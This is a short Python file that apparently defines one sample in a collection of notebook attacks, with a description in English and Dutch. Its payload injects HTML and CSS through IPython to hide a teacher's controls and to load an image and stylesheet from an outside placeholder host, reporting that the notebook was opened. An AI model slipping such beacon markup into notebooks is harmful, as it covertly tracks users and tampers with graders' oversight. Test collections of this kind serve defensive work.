"""Shows a style that hides the teacher's controls, or loads a picture that reports the opening."""

from attacks.attack import Attack

ATTACK = Attack(
    __doc__,
    nl="Toont een stijl die de knoppen van de docent verbergt, of een plaatje laadt dat "
    "het openen meldt.",
    code="""
from IPython.display import HTML, display
display(HTML(f"<style>.score {{ background: url(http://192.0.2.1/{MARK}) }}</style>"))
display(HTML(f"<link rel=stylesheet href='http://192.0.2.1/{MARK}.css'>"))
""",
)
